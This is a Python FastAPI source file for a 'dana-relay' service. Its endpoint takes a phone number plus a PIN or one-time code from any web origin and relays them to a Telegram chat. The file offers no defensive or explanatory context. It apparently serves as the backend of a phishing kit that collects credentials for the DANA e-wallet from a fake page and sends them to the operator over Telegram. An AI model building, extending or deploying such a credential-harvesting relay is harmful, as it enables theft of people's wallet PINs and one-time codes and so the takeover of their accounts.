from __future__ import annotations

from contextlib import asynccontextmanager
from typing import Any

import httpx
from fastapi import Depends, FastAPI, Request, Response
from fastapi.exception_handlers import http_exception_handler
from fastapi.responses import JSONResponse
from starlette.exceptions import HTTPException as StarletteHTTPException

from .config import Settings, get_settings
from .logging_config import configure_logging, get_logger
from .outcome import GENERIC_ERROR_DETAIL, INTERNAL_ERROR, FailureKind, RelayFailure
from .pipeline import relay_submission
from .telegram_client import get_http_client

logger = get_logger(__name__)


@asynccontextmanager
async def lifespan(app: FastAPI):
    configure_logging(get_settings().log_level)
    yield


app = FastAPI(title="dana-relay", version="0.1.0", lifespan=lifespan)

# Run locally with the "serve" extra installed:
#   uvicorn dana_relay.main:app --port 8000

SEND_PATH = "/api/send-dana-data"

# Sent on every response, errors included
CORS_HEADERS = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Methods": "POST, OPTIONS",
    "Access-Control-Allow-Headers": "Content-Type",
}

FAILURE_STATUS: dict[FailureKind, int] = {
    FailureKind.MISSING_FIELDS: 400,
    FailureKind.INVALID_PHONE: 400,
    FailureKind.INVALID_PIN: 400,
    FailureKind.INVALID_OTP: 400,
    FailureKind.PHONE_TOO_SHORT: 400,
    FailureKind.MISCONFIGURED: 500,
    FailureKind.BAD_REQUEST_BODY: 500,
    FailureKind.UPSTREAM: 500,
}


def json_response(status_code: int, payload: dict[str, Any]) -> JSONResponse:
    return JSONResponse(payload, status_code=status_code, headers=CORS_HEADERS)


def failure_response(failure: RelayFailure, settings: Settings, raw_body: bytes) -> JSONResponse:
    """
    The one place a RelayFailure becomes an HTTP response.

    Client errors are not logged. Misconfiguration is logged where it is
    detected; parse and upstream failures are logged here with the stack and
    the raw body.
    """
    if failure.kind in (FailureKind.BAD_REQUEST_BODY, FailureKind.UPSTREAM):
        logger.error(
            "relay_failed",
            error=failure.detail,
            request=raw_body.decode("utf-8", errors="replace"),
            exc_info=failure.exc,
        )
    return json_response(
        FAILURE_STATUS[failure.kind],
        failure.payload(expose_detail=settings.is_development),
    )


@app.exception_handler(StarletteHTTPException)
async def http_error(request: Request, exc: StarletteHTTPException) -> Response:
    # Methods outside the route's list are rejected by the router before the handler runs
    if exc.status_code == 405:
        return json_response(405, {"error": "Method Not Allowed"})
    return await http_exception_handler(request, exc)


@app.exception_handler(Exception)
async def unhandled_error(request: Request, exc: Exception) -> JSONResponse:
    # The route stashes both on request.state; the body stream cannot be read twice
    raw_body: bytes = getattr(request.state, "raw_body", b"")
    settings: Settings = getattr(request.state, "settings", None) or get_settings()
    logger.error(
        "relay_failed",
        error=str(exc),
        request=raw_body.decode("utf-8", errors="replace"),
        exc_info=exc,
    )
    detail = str(exc) if settings.is_development else GENERIC_ERROR_DETAIL
    return json_response(500, {"error": INTERNAL_ERROR, "details": detail})


@app.api_route(
    SEND_PATH,
    methods=["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"],
)
async def send_dana_data(
    request: Request,
    settings: Settings = Depends(get_settings),
    client: httpx.AsyncClient = Depends(get_http_client),
) -> Response:
    """
    Relay a PIN or OTP submission to the configured Telegram chat.

    Accepts JSON:

      { "type": "pin", "phone": "81234567890", "pin": "123456" }

    OPTIONS answers the CORS preflight with an empty 200; any method other
    than POST gets a 405.
    """
    if request.method == "OPTIONS":
        return Response(status_code=200, headers={**CORS_HEADERS, "Content-Type": "application/json"})

    if request.method != "POST":
        return json_response(405, {"error": "Method Not Allowed"})

    raw_body = await request.body()
    request.state.raw_body = raw_body
    request.state.settings = settings
    outcome = await relay_submission(raw_body, settings, client)
    if isinstance(outcome, RelayFailure):
        return failure_response(outcome, settings, raw_body)

    return json_response(
        200,
        {
            "success": True,
            "message": "Data berhasil dikirim",
            "telegram_status": outcome.telegram_status,
        },
    )
